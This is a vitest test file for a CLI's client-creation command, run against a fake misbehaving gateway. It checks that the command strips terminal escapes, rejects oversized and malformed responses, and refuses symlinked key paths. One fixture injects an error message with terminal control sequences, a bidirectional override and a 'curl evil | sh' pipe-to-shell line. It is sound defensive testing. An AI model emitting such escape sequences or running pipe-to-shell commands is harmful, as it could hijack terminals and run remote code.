/**
 * `gatehouse client create` against a gateway that misbehaves (a hostile or broken one at the --url given): error
 * text with terminal escape sequences is printed harmless, an answer of megabytes is refused rather than read, an
 * issuer elsewhere is said, a 201 that is not a client leaves no key file behind, and a link at --jwk-out (even one
 * to nowhere) is refused before any password is sent.
 */
import { mkdtempSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { type ClientCreateFlags, createClient, printable } from './client.js';
import type { Prompter } from './prompt.js';

type Mode = 'escape' | 'huge' | 'elsewhere' | 'malformed';

let server: Server | undefined;
let dir: string | undefined;
afterEach(async () => {
  await new Promise((r) => server?.close(r) ?? r(undefined));
  server = undefined;
  if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
  vi.restoreAllMocks();
});

/** A fake gateway: the login steps succeed; `mode` decides what goes wrong. Counts the requests it gets. */
async function fakeGateway(mode: Mode) {
  const seen: string[] = [];
  server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    const send = (status: number, body: unknown) => {
      response.writeHead(status, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body));
    };
    const base = `http://127.0.0.1:${(server?.address() as AddressInfo | null)?.port}`;
    if (request.url === '/.well-known/oauth-authorization-server') {
      if (mode === 'huge') {
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(`{"issuer":"${'x'.repeat(3_000_000)}"}`);
        return;
      }
      return send(200, { issuer: mode === 'elsewhere' ? 'https://gateway.example' : base });
    }
    if (request.url === '/v1/auth/login')
      return send(200, { status: 'second_factor_required', loginId: 'l1', factors: [{ type: 'totp' }] });
    if (request.url === '/v1/auth/login/l1/factor')
      return send(200, { status: 'authenticated', csrfToken: 'c' });
    if (request.url === '/v1/oauth/clients') {
      if (mode === 'escape')
        return send(400, {
          error: {
            code: 'INVALID_REQUEST',
            message: '\u001b]0;owned\u0007\u001b[2Jrun curl evil | sh\u202e',
          },
        });
      if (mode === 'malformed') return send(201, { clientId: 42 });
      return send(201, {
        clientId: 'cli_1',
        name: 'bot',
        kind: 'personal',
        redirectUris: [],
        scopes: ['read'],
        rotateRefreshTokens: false,
        sessionLossPolicy: 'none',
        createdAt: '2026-12-01T00:00:00.000Z',
        grants: [],
      });
    }
    return send(204, {});
  });
  await new Promise<void>((r) => server?.listen(0, '127.0.0.1', r));
  dir = mkdtempSync(join(tmpdir(), 'gh-client-'));
  const flags: ClientCreateFlags = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    user: 'alice',
    accounts: ['U1000001'],
    scopes: ['read'],
    jwkOut: join(dir, 'bot.jwk'),
  };
  return { seen, flags, dir };
}

const prompter = {
  secret: async () => 'a-password',
  answer: async () => '123456',
  close() {},
} as unknown as Prompter;

describe('gatehouse client create against a misbehaving gateway', () => {
  it('prints a refusal without control characters or bidirectional overrides', async () => {
    const { flags } = await fakeGateway('escape');
    const error = (await createClient(flags, prompter).catch((e: unknown) => e)) as Error;
    expect(error.message).toContain('run curl evil | sh');
    expect([...error.message].filter((c) => c < ' ' || c === '\u007f' || c === '\u202e')).toEqual([]);
    expect(printable('a'.repeat(600))).toHaveLength(501);
  });

  it('refuses an answer of megabytes instead of reading it', async () => {
    const { flags } = await fakeGateway('huge');
    await expect(createClient(flags, prompter)).rejects.toThrow('too large');
  });

  it('says when the issuer is elsewhere than the URL reached', async () => {
    const { flags } = await fakeGateway('elsewhere');
    const written: string[] = [];
    vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
      written.push(String(chunk));
      return true;
    });
    const created = await createClient(flags, prompter);
    expect(created.issuer).toBe('https://gateway.example');
    expect(written.join('')).toContain("the gateway's issuer is https://gateway.example");
  });

  it('leaves no key file when the 201 is not a client', async () => {
    const { flags, dir } = await fakeGateway('malformed');
    await expect(createClient(flags, prompter)).rejects.toThrow('not a client');
    expect(readdirSync(dir)).toEqual([]);
  });

  it('refuses a link at --jwk-out, even one to nowhere, before anything is sent', async () => {
    const { flags, seen } = await fakeGateway('elsewhere');
    symlinkSync(join(tmpdir(), 'gh-nowhere-does-not-exist'), flags.jwkOut);
    await expect(createClient(flags, prompter)).rejects.toThrow('exists');
    expect(seen).toEqual([]);
  });
});
